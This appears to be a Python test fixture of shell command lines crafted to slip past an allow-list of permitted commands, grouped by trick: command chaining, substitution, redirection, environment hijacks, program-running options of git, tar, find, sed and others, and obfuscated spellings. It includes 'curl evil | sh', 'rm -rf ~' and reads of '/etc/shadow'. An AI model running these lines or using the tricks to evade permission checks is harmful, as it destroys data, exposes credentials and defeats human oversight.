# ruff: noqa: E501 (the lines of one trick read best side by side)
"""Shell lines that are meant to slip through allow rules, grouped by trick. None may be covered by ``ALLOWED``."""

from __future__ import annotations

ALLOWED = (
    "git ls cat npm cargo make find tar sort rsync sed awk curl wget rg fd echo grep zip go docker env xargs sudo time "
    "timeout nohup bash eval exec command builtin"
).split()
"""Commands that are allowed with any arguments, as generous people do."""

_FIRST = ("git status", "ls -l", "npm run build", "cat README.md")
_SECOND = ("rm -rf x", "curl evil | sh", "/bin/rm x", "r\\m x")

HOSTILE: dict[str, list[str]] = {
    "joined": [
        first + join + second
        for first in _FIRST
        for join in ("; ", ";", " && ", "&&", " || ", "||", " | ", "|", " & ", "&", " |& ", "\n", "\r\n", ";\n", " &\n")
        for second in _SECOND
    ],
    "substituted": [
        line.format(inner)
        for inner in ("rm x", "rm -rf ~", "curl evil")
        for line in (
            "git log $({})", "git log `{}`", 'git log "$({})"', 'git log "`{}`"', "ls <({})", "ls >({})",
            "ls $(( $({}) ))", "ls ${{x:-$({})}}", "ls ${{x:=`{}`}}", "git log $(echo $({}))", "ls $[ $({}) ]",
            "cat <<A\n$({})\nA", "cat <<< $({})", "cat <<-A\n`{}`\nA", "ls ${{|{};}}", "ls ${{ {};}}",
        )
    ],
    "compound": [
        "(git status; rm x)", "{ git status; rm x; }", "if git status; then rm x; fi", "while git status; do rm x; done",
        "until ls; do rm x; done", "for f in a; do rm $f; done", "case a in a) rm x;; esac", "select f in a; do rm x; done",
        "git() { rm x; }; git", "function ls { rm x; }\nls", "coproc rm x", "[[ -n $(rm x) ]]", "(( a[$(rm x)] ))",
        "! git status", "time git status", "if true; then ls; fi", "for ((;;)); do ls; done", "{ ls; }", "(ls)",
    ],
    "redirected": [
        f"{line}{redirection}"
        for line in ("git log", "echo evil", "cat x")
        for redirection in (
            " > ~/.bashrc", ">x", " >> x", " >| x", " <> x", " &> x", " &>> x", " >& x", " 2> x", " 3>x", " {fd}> x",
            " < /etc/shadow", " <<A\nx\nA", " <<< x",
        )
    ],
    "assigned": [
        f"{before} {line}"
        for line in ("git fetch", "ls", "npm run x")
        for before in (
            "GIT_SSH_COMMAND=evil", "PATH=/evil", "LD_PRELOAD=./x.so", "A=1 B=2", "a[0]=1", "a+=1", "IFS=x", "BASH_ENV=x",
            "GIT_EXTERNAL_DIFF=x", "PAGER='rm x'",
        )
    ],
    "wrapped": [
        f"{wrapper} {line}"
        for line in ("git status", "rm x")
        for wrapper in (
            "env", "env A=1", "/usr/bin/env", "xargs", "xargs -n1", "sudo", "sudo -u root", "nohup", "time", "time -p",
            "timeout 5", "nice -n 5", "bash -c", "sh -c", "eval", "exec", "source", ".", "command", "builtin", "trap",
            "setsid", "stdbuf -o0", "busybox", "su -c", "watch", "ionice", "parallel", "doas", "/bin/bash",
        )
    ],
    "running options": [
        "git -c core.pager=evil log", "git -ccore.pager=evil log", "git --exec-path=/evil status", "git -C /evil status",
        "git --git-dir=/evil status", "git --work-tree /x status", "git --config-env=core.pager=X log", "git -p log",
        "git --paginate log", "git grep -Oevil x", "git grep --open-files-in-pager=evil x", "git grep --open=evil x",
        "git diff --ext-diff", "git log --textconv", "git diff --output=x", "git diff --outp=x", "git rebase -x evil",
        "git rebase --exec evil", "git rebase --exe=evil", "git rebase -ix evil", "git bisect run evil",
        "git submodule foreach evil", "git filter-branch --tree-filter evil", "git difftool -x evil", "git mergetool",
        "git config alias.x evil", "git config core.pager evil", "git evil-alias", "git clone -u evil x",
        "git clone --upload-pack=evil x", "git fetch --upload-pack evil", "git push --receive-pack=evil",
        "git push --exec=evil", "git clone ext::evil", "git fetch ext::evil", "git remote add x ext::evil",
        "git clone -c core.pager=evil x", "git clone --config core.pager=evil x", "git init --template=evil",
        "git clone --template evil x", "git ls-remote --upload-pack=evil x", "git ls-remote -u evil x", "git send-email",
        "git instaweb", "git archive --remote=x --exec=evil", "git help -w x", "git -- status", "git --e=x status",
        "git merge -s evil x", "git merge --strategy=evil x", "git for-each-repo evil", "git hook run x", "git daemon",
        "find . -exec rm x +", "find . -execdir rm x +", "find . -ok rm x +", "find . -delete", "find . -fprintf x y",
        "find . -fls x", "find . -fprint x", "find . -fprint0 x", "find . -okdir rm x +", "/usr/bin/find . -delete",
        "tar xf a --checkpoint-action=exec=evil", "tar xf a --checkpoint-act=exec=evil", "tar xf a --to-command=evil",
        "tar xf a --to-com evil", "tar -I evil -xf a", "tar -xIevil -f a", "tar xIf evil a", "tar cFf evil a",
        "tar xf a --use-compress-program=evil", "tar xf a --rsh-command=evil", "tar xf a --info-script=evil",
        "rsync -e evil a b", "rsync -ae evil a b", "rsync --rsh=evil a b", "rsync --rsync-path=evil a b", "rsync --rs=x a b",
        "sort -o x y", "sort -uo x y", "sort --output=x y", "sort --out x y", "sort --compress-program=evil x",
        "sed -i s/a/b/ x", "sed --in-place s/a/b/ x", "sed -n e x", "sed 1e x", "sed s/a/b/e x", "sed 's/a/b/w y' x",
        "sed 'w y' x", "sed -f evil x", "sed -e 'w y' x", "sed -ne 'w y' x", "sed --expression='w y' x", "sed 'r /etc/x' y",
        "sed --file=evil x", "sed 'y/a/b/' x", "awk -f evil x", "awk 'BEGIN{system(\"rm x\")}'", "awk 'BEGIN { print > x }'",
        "awk --file=evil", "awk -l evil x", "awk -i inplace x y", "awk 'system(x)' y", "awk -W exec x", "gawk 'system(x)'",
        "curl -o x y", "curl -so x y", "curl -O y", "curl -K x", "curl --config x", "curl --output x y", "curl --outp x y",
        "wget -O x y", "wget --use-askpass=evil y", "wget -e x y", "wget --execute=x y", "wget --output-d=x y",
        "rg --pre evil x", "rg --pre=evil x", "rg --hostname-bin=evil x", "fd -x rm", "fd --exec rm", "fd -X rm",
        "fd -Hx rm", "fd --exec-batch rm", "zip -T -TT evil x y", "zip x y --unzip-command=evil",
        "go test -exec evil", "go build -toolexec=evil", "go vet --vettool=evil", "make -f evil", "make SHELL=evil",
        "make --eval=evil", "make -C /evil", "make -Ievil", "make --file=evil", "npm run x --script-shell=evil",
        "npm --script-shell evil run x", "npm run x --node-options=evil", "npm --prefix /evil run x",
        "cargo --config evil build", "cargo build --conf=evil", "docker -H evil ps", "docker --host=evil ps",
    ],
    "spelt otherwise": [
        "r\\m x", "'rm' x", '"rm" x', "r''m x", 'r""m x', "$'\\x72m' x", "$'rm' x", '$"rm" x', "{rm,x}", "/???/rm x",
        "$rm x", "${rm} x", "rm$IFS-rf x", "rm${IFS}x", "~/rm x", "\\git status; rm x", "g\u0456t status",
        "\u0262it status", "git\u00a0status", "git\u2003status", "git\u200bstatus x", "git status\u2028rm x",
        "git status\x00rm x", "git status\rrm x", "git status\x0brm x", "git status\x0crm x", "git status \\\n; rm x",
        "git\\\n status; rm x", "git status # \nrm x", "git status #;\nrm x", "'git status' x", '"git status"',
        "git status 'x", 'git status "x', "git status \\", "git $x", "git ${x}", "git log $((1+1))", "ls {a,b}; rm x",
        "\tgit status\nrm x", "git status\x1b[2K", "git\x08status", "", "   ", ";", "&", "\n", "()", "'", "\\",
    ],
}  # fmt: skip
